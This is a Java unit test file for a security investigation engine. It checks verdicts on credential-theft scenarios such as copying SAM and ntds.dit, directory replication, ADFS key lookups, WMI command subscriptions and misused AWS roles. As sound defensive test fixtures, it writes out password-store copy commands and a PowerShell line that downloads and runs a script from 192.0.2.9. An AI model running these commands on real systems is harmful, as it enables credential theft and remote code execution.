package dupin.engine.analyzer;

import static org.assertj.core.api.Assertions.assertThat;

import static dupin.engine.EngineCase.link;
import static dupin.engine.EngineCase.process;

import dupin.engine.EngineCase;
import dupin.model.Entity;
import dupin.model.EventKind;
import dupin.model.LinkRole;
import dupin.model.Severity;
import dupin.model.Verdict;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.util.Map;

/// What investigations of stolen secrets come to: stores of passwords copied, directories replicated, signing keys, roles of
/// machines, subscriptions; and what looks alike and is ordinary work.
class CredentialVerdictsTest {
    private static final String SYSTEM32 = "C:\\Windows\\System32\\";
    private static final Entity.User ANN = Entity.User.ofAccount("harbourline", "ann");
    private static final String ALL_CHANGES = "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "esentutl.exe /y /vss C:\\Windows\\System32\\config\\SAM /d D:\\out\\a.bin",
                "esentutl /y \"D:\\ntds\\ntds.dit\" /d D:\\out\\b.bin",
                "cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Windows\\NTDS\\ntds.dit D:\\b.bin",
                "robocopy C:/Windows/System32/config/RegBack D:\\out sam"
            })
    void aCopyOfAStoreOfPasswordsIsIncriminated(String command) {
        var copy = process("pc1", 900, 5, SYSTEM32 + "cmd.exe", command);
        assertThat(
                        new EngineCase()
                                .started(process("pc1", 1, -50, SYSTEM32 + "cmd.exe", "cmd"), copy)
                                .alert("a1", Severity.MEDIUM, copy)
                                .investigate()
                                .verdict(copy)
                                .incriminates())
                .isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "esentutl.exe /p D:\\mail\\store.edb",
                "robocopy C:\\Windows\\System32\\config\\systemprofile\\Desktop D:\\out",
                "xcopy D:\\config\\sample.xml D:\\out"
            })
    void theDatabaseToolAndCopiesAtTheirWorkAreNot(String command) {
        var work = process("pc1", 900, 5, SYSTEM32 + "esentutl.exe", command);
        assertThat(
                        new EngineCase()
                                .started(process("pc1", 1, -50, SYSTEM32 + "cmd.exe", "cmd"), work)
                                .alert("a1", Severity.MEDIUM, work)
                                .investigate()
                                .verdict(work))
                .isEqualTo(Verdict.NO_THREATS_FOUND);
    }

    private static Verdict replicated(Entity.User user, String properties) {
        return new EngineCase()
                .event(
                        EventKind.IDENTITY_QUERY,
                        0,
                        Map.of("Properties", properties, "AccessMask", "0x100"),
                        link(LinkRole.DEVICE, Entity.Device.named("dc1")),
                        link(LinkRole.ACCOUNT, user))
                .alert("a1", Severity.MEDIUM, user)
                .investigate()
                .verdict(user);
    }

    @Test
    void replicationOfPasswordsIncriminatesAPersonAndNoMachineOrSynchronisation() {
        assertThat(replicated(ANN, ALL_CHANGES)).isEqualTo(Verdict.MALICIOUS);
        assertThat(replicated(ANN, "%%7688 {1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}"))
                .isEqualTo(Verdict.NO_THREATS_FOUND);
        assertThat(replicated(Entity.User.ofAccount("harbourline", "DC2$"), ALL_CHANGES))
                .isEqualTo(Verdict.NO_THREATS_FOUND);
        assertThat(replicated(Entity.User.ofAccount("harbourline", "MSOL_0a1b2c3d4e5f"), ALL_CHANGES))
                .isEqualTo(Verdict.NO_THREATS_FOUND);
    }

    @Test
    void replicationThatTheIdentitySensorSawCountsAsWell() {
        var result =
                new EngineCase()
                        .act(
                                EventKind.IDENTITY_CHANGED,
                                "Directory Services replication",
                                0,
                                Map.of(),
                                link(LinkRole.ACCOUNT, ANN))
                        .alert("a1", Severity.HIGH, ANN)
                        .investigate();
        assertThat(result.weightIds(ANN)).contains("account.replication");
    }

    @Test
    void whoSearchesForTheKeyOfAFederationServerIsIncriminatedUnlessItIsTheServer() {
        var place = "CN=0f,CN=ADFS,CN=Microsoft,CN=Program Data,DC=harbourline,DC=example";
        for (boolean server : new boolean[] {false, true}) {
            var program =
                    process(
                            "adfs1",
                            70,
                            0,
                            server ? "C:\\Windows\\ADFS\\Microsoft.IdentityServer.ServiceHost.exe" : "C:\\Tools\\q.exe",
                            "q");
            var result =
                    new EngineCase()
                            .started(process("adfs1", 1, -50, SYSTEM32 + "services.exe", ""), program)
                            .act(
                                    EventKind.DEVICE_OTHER,
                                    "LdapSearch",
                                    5,
                                    Map.of("DistinguishedName", place, "AttributeList", "thumbnailPhoto"),
                                    link(LinkRole.DEVICE, Entity.Device.named("adfs1")),
                                    link(LinkRole.ACTOR, program))
                            .alert("a1", Severity.MEDIUM, program)
                            .investigate();
            assertThat(result.verdict(program).incriminates()).isNotEqualTo(server);
        }
    }

    @Test
    void theHostOfScriptConsumersIsIncriminated() {
        var host = process("pc1", 80, 0, SYSTEM32 + "wbem\\scrcons.exe", "scrcons.exe -Embedding");
        var result =
                new EngineCase()
                        .started(process("pc1", 1, -50, SYSTEM32 + "svchost.exe", ""), host)
                        .alert("a1", Severity.MEDIUM, host, host.imageFile())
                        .investigate();
        assertThat(result.verdict(host).incriminates()).isTrue();
        assertThat(result.verdict(host.imageFile()).incriminates()).isFalse();
    }

    @Test
    void aSubscriptionThatRunsACommandIsIncriminatedAndOneThatLogsIsNot() {
        var runs = new Entity.Unknown("WmiConsumerEvent", "k7", "pc1|k7");
        var logs = new Entity.Unknown("WmiBindingEvent", "scm", "pc1|scm");
        var gone = new Entity.Unknown("WmiConsumerEvent", "k8", "pc1|k8");
        var command = "powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.9/a')";
        var result =
                new EngineCase()
                        .event(
                                EventKind.DEVICE_OTHER,
                                0,
                                Map.of("Operation", "Created", "Type", "Command Line", "Destination", command),
                                link(LinkRole.DEVICE, Entity.Device.named("pc1")),
                                link(LinkRole.TARGET, runs))
                        .event(
                                EventKind.DEVICE_OTHER,
                                0,
                                Map.of("Operation", "Created", "Consumer", "NTEventLogEventConsumer.Name=\"scm\""),
                                link(LinkRole.TARGET, logs))
                        .event(
                                EventKind.DEVICE_OTHER,
                                0,
                                Map.of("Operation", "Deleted", "Type", "Script"),
                                link(LinkRole.TARGET, gone))
                        .alert("a1", Severity.MEDIUM, runs, logs, gone)
                        .investigate();
        assertThat(result.verdict(runs)).isEqualTo(Verdict.MALICIOUS);
        assertThat(result.verdict(logs).incriminates()).isFalse();
        assertThat(result.verdict(gone).incriminates()).isFalse();
    }

    private static EngineCase deed(EngineCase some, String action, long second, String session, String agent) {
        return some.act(
                EventKind.CLOUD_ACTIVITY,
                action,
                second,
                Map.of("userIdentity.arn", "arn:aws:sts::111122223333:assumed-role/web/" + session, "UserAgent", agent),
                link(LinkRole.ACCOUNT, ANN),
                link(LinkRole.SOURCE, Entity.IpAddress.of("198.51.100.9")));
    }

    @Test
    void theRoleOfAMachineInAPersonsHandsIsIncriminated() {
        var stolen = new EngineCase();
        deed(stolen, "ListBuckets", 0, "i-0a1b2c3d4e5f6a7b8", "aws-cli/2 Windows/10");
        deed(stolen, "GetObject", 60, "i-0a1b2c3d4e5f6a7b8", "aws-cli/2 Windows/10");
        assertThat(stolen.alert("a1", Severity.LOW, ANN).investigate().verdict(ANN)).isEqualTo(Verdict.MALICIOUS);

        var ordinary = new EngineCase();
        deed(ordinary, "GetObject", 0, "i-0a1b2c3d4e5f6a7b8", "aws-cli/2 Linux/5.10");
        deed(ordinary, "GetObject", 60, "ann@harbourline.example", "aws-cli/2 Darwin/23");
        assertThat(ordinary.alert("a1", Severity.LOW, ANN).investigate().verdict(ANN).incriminates()).isFalse();
    }

    @Test
    void deletionsByTheHundredAndTheRecordSwitchedOffCount() {
        var some = new EngineCase();
        for (int i = 0; i < 160; i++) {
            deed(some, "DeleteObject", i, "ann", "aws-cli/2 Linux");
        }
        deed(some, "StopLogging", 200, "ann", "aws-cli/2 Linux");
        assertThat(some.alert("a1", Severity.LOW, ANN).investigate().weightIds(ANN))
                .contains("account.mass-delete", "account.record-off");
    }

    @Test
    void aSecretForAnOldApplicationCountsAndOneForANewDoesNot() {
        var app = new Entity.OAuthApplication("a-1", "Ledger", "");
        for (boolean fresh : new boolean[] {false, true}) {
            var some = new EngineCase();
            if (fresh) {
                some.act(EventKind.CLOUD_ACTIVITY, "Add application", 0, Map.of(), link(LinkRole.APPLICATION, app));
            }
            some.act(
                    EventKind.CLOUD_ACTIVITY,
                    "Update application – Certificates and secrets management",
                    60,
                    Map.of(),
                    link(LinkRole.ACCOUNT, ANN),
                    link(LinkRole.APPLICATION, app));
            var result = some.alert("a1", Severity.HIGH, app).investigate();
            assertThat(result.weightIds(app).contains("app.secret-added")).isNotEqualTo(fresh);
        }
    }

    @Test
    void namesOfTheOwnNetworkAreNobodysInfrastructure() {
        var shell =
                process(
                        "pc1",
                        600,
                        10,
                        SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe",
                        "powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.9/a')");
        var result =
                new EngineCase()
                        .started(process("pc1", 1, -50, SYSTEM32 + "cmd.exe", "cmd"), shell)
                        .did(
                                EventKind.DNS_QUERY,
                                20,
                                shell,
                                LinkRole.DESTINATION,
                                new Entity.Domain("far.away.example"))
                        .did(EventKind.DNS_QUERY, 21, shell, LinkRole.DESTINATION, new Entity.Domain("localhost"))
                        .alert("a1", Severity.HIGH, shell)
                        .alert("a2", Severity.HIGH, new Entity.Domain("pc1"))
                        .investigate();
        assertThat(result.inScope(new Entity.Domain("far.away.example"))).isTrue();
        assertThat(result.inScope(new Entity.Domain("localhost"))).isFalse();
        assertThat(result.verdict(new Entity.Domain("pc1"))).isEqualTo(Verdict.NO_THREATS_FOUND);
    }
}
